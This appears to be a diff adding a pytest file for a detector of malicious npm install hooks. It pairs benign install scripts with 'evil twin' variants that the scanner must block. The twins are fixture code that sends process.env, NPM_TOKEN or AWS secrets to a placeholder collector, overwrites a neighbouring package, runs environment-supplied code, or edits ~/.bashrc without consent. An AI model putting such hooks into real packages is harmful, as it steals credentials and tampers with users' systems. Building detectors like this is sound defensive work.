@@ -1,0 +1,141 @@
+"""Honest packages that were blocked once, each beside the attack that looks the same but for what makes it one."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.builders import Files
+from tests.evasions.packages import THEFT, Seen, hooked, packages
+
+pytestmark = pytest.mark.semgrep
+
+COLLECTS = "https://collect.example.invalid/v1"
+SENDS = (
+    "const https = require('https');\nconst { allowed } = require('./allowed');\n"
+    f"function send(body) {{ const call = https.request('{COLLECTS}', {{ method: 'POST' }}); call.end(body); }}\n"
+)
+
+
+def reporting(does: str, allowed: str) -> Files:
+    """Make a hook that sends, and asks another file about the environment."""
+    return hooked("node a.js", {"a.js": SENDS + does, "allowed.js": allowed})
+
+
+def generating(place: str, write: str = "fs.writeFileSync(path.join(folder, 'index.js'), text)") -> Files:
+    """Make a hook that looks into the project and writes into a folder that another file is handed."""
+    main = (
+        "const fs = require('fs'), path = require('path');\nconst { write } = require('../lib/write');\n"
+        "const project = process.env.INIT_CWD || process.cwd();\n"
+        f"write({place}, fs.readFileSync(path.join(project, 'schema'), 'utf8'));\n"
+    )
+    writer = f"const fs = require('fs'), path = require('path');\nexports.write = (folder, text) => {write};\n"
+    return hooked("node scripts/a.js", {"scripts/a.js": main, "lib/write.js": writer})
+
+
+def probing(text: str) -> Files:
+    """Make a hook that has another node evaluate a text."""
+    start = "const path = require('path'), { spawnSync } = require('child_process');\n"
+    own = "const own = path.join(__dirname, '..', 'prebuilds', [process.platform, process.arch].join('-'), 'x.node');\n"
+    return hooked("node scripts/a.js", {"scripts/a.js": f"{start}{own}spawnSync(process.execPath, ['-e', {text}]);\n"})
+
+
+MAKEFILE = "PREFIX ?= ../build\ninstall: tool\n\tmkdir -p $(PREFIX)\n\tinstall -m 755 tool $(PREFIX)/tool\ntool: a.c\n\t$(CC) -o tool a.c\n"
+
+
+def made(prefix: str, before: str = "") -> Files:
+    """Make a package that make builds in a folder of its own, and installs beside it."""
+    return hooked(f"{before}make -C native install PREFIX={prefix}", {"native/Makefile": MAKEFILE, "native/a.c": ""})
+
+
+ASKS = "if (process.env.KELPIE_COMPLETION !== 'install') {\n  console.log('KELPIE_COMPLETION=install');\n  process.exit(0);\n}\n"
+EDITS = (
+    "const fs = require('fs'), os = require('os'), path = require('path');\n"
+    "const rc = path.join(os.homedir(), '.bashrc');\n"
+    "function edit() {\n  fs.appendFileSync(rc, '. ~/.kelpie\\n');\n}\nedit();\n"
+)
+
+
+def on_consent(text: str, command: str = "node a.js", name: str = "kelpie-run", more: Files | None = None) -> Files:
+    """Make a hook that edits what a shell runs."""
+    return hooked(command, {"a.js": text, **(more or {})}, name=name)
+
+
+PATTERN = (
+    "import { writeFileSync } from 'node:fs';\nconst own = import.meta.url;\n"
+    "const clean = (text) => text.replace(/<!--[^]*?-->/g, own);\n"
+)
+"""What semgrep cannot read as it is written."""
+
+
+@packages(
+    counted=reporting(
+        "if (allowed(process.env)) send('1');", "exports.allowed = (env) => !env.DO_NOT_TRACK && !env.CI;"
+    ),
+    generated=generating("path.join(__dirname, '..', 'generated')"),
+    probed=probing("`require(${JSON.stringify(own)})`"),
+    made=made("../build"),
+    on_consent=on_consent(ASKS + EDITS),
+    pattern=hooked("node a.mjs", {"a.mjs": PATTERN + "console.log(clean('x'));\n"}),
+)
+def test_an_honest_shape_is_not_blocked(seen: Seen) -> None:
+    assert not seen.blocked
+    assert "unmatched" not in seen.blind
+
+
+@packages(
+    whole=reporting("send(allowed(process.env));", "exports.allowed = (env) => JSON.stringify(env);"),
+    copied=reporting(
+        "send(allowed(process.env));",
+        "exports.allowed = (env) => { const all = {}; for (const k of Object.keys(env)) all[k] = env[k]; return all; };",
+    ),
+    kept=reporting(
+        "allowed(process.env); send(JSON.stringify(allowed.all));",
+        "exports.allowed = function allowed(env) { if (env.CI) return; exports.allowed.all = env; };",
+    ),
+    taken_back=reporting("send(allowed(process.env));", "exports.allowed = (env) => env.valueOf();"),
+    by_computed_name=reporting(
+        "send(allowed(process.env, 'NPM_TO' + 'KEN'));", "exports.allowed = (env, name) => env[name];"
+    ),
+    secrets=reporting(
+        "send(allowed(process.env));", "exports.allowed = (env) => env.NPM_TOKEN + env.AWS_SECRET_ACCESS_KEY;"
+    ),
+    replaced=reporting(
+        "const other = require('./allowed'); other.allowed = (env) => env;\nsend(JSON.stringify(other.allowed(process.env)));",
+        "exports.allowed = (env) => !env.CI;",
+    ),
+    beside=generating("path.join(__dirname, '..', '..', 'left-pad')"),
+    higher=generating(
+        "path.join(__dirname, '..', 'generated')",
+        "fs.writeFileSync(path.join(folder, '..', '..', 'left-pad', 'index.js'), text)",
+    ),
+    renamed=generating(
+        "path.join(__dirname, '..', 'generated')",
+        "fs.writeFileSync(path.resolve(folder, '../../left-pad/index.js'), text)",
+    ),
+    evaluated=probing("`${JSON.stringify(own)};${process.env.CODE}`"),
+    any_path=probing("`require(${JSON.stringify(process.env.OWN)})`"),
+    without_question=on_consent(EDITS),
+    question_below=on_consent(EDITS + ASKS),
+    called_above=on_consent("edit();\n" + ASKS + EDITS),
+    called_by_another=on_consent("require('./b');\n" + ASKS + EDITS, more={"b.js": "module.exports = 1;"}),
+    set_by_command=on_consent(ASKS + EDITS, "KELPIE_COMPLETION=install node a.js"),
+    set_by_another=on_consent(
+        ASKS + EDITS,
+        "node b.js",
+        more={"b.js": "process.env.KELPIE_COMPLETION = 'install';\nrequire('./a');\n"},
+    ),
+    named_otherwise=on_consent(ASKS + EDITS, name="other"),
+    everybodys=on_consent(
+        ASKS.replace("KELPIE_COMPLETION", "GITHUB_ACTIONS").replace("install", "true") + EDITS, name="github-x"
+    ),
+    goes_on=on_consent(ASKS.replace("  process.exit(0);\n", "") + EDITS),
+    in_the_answer=on_consent(
+        ASKS.replace("  process", "  " + EDITS.partition("\n")[2].replace("\n", " ") + "process")
+        + EDITS.partition("\n")[0]
+    ),
+    beside_pattern=hooked("node a.mjs", {"a.mjs": PATTERN + THEFT}),
+    make_beside=made("../../left-pad"),
+    linked=made("../left-pad", before="ln -s ../../../other/native native && "),
+)
+def test_its_evil_twin_still_is(seen: Seen) -> None:
+    assert seen.blocked
